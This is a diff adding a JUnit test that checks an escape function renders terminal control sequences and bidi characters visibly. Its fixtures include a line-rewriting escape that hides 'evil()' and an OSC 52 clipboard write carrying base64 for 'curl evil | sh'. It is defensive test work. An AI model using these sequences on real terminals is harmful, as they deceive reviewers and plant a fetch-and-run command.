@@ -1,0 +1,31 @@
+package dev.claudecage.host;
+
+import org.junit.jupiter.api.Test;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertSame;
+
+class UntrustedTextTest {
+
+    @Test
+    void attack5_aLineThatRewritesItselfOnATerminalShowsWhatItIs() {
+        assertEquals("+evil()\\r\\x1b[2K+print(1)\n", UntrustedText.escape("+evil()\r\u001b[2K+print(1)\n"));
+    }
+
+    @Test
+    void attack5_anOsc52ClipboardWriteIsShownNotSent() {
+        assertEquals("\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07", UntrustedText.escape("\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007"));
+    }
+
+    @Test
+    void everyOtherControlCharacterAndBidiControlIsShownVisibly() {
+        assertEquals("\\x00\\x08\\x7f\\u009b\\u0085\\u202e\\u2066\\u2069\\u200f\\u061c",
+                UntrustedText.escape("\u0000\b\u007f\u009b\u0085\u202e\u2066\u2069\u200f\u061c"));
+    }
+
+    @Test
+    void positiveControlOrdinaryTextStaysAsItIs() {
+        String text = "diff --git a/résumé.md b/résumé.md\n+\tindented \\x1b stays, 日本語 and emoji 🙂\n";
+        assertSame(text, UntrustedText.escape(text));
+    }
+}
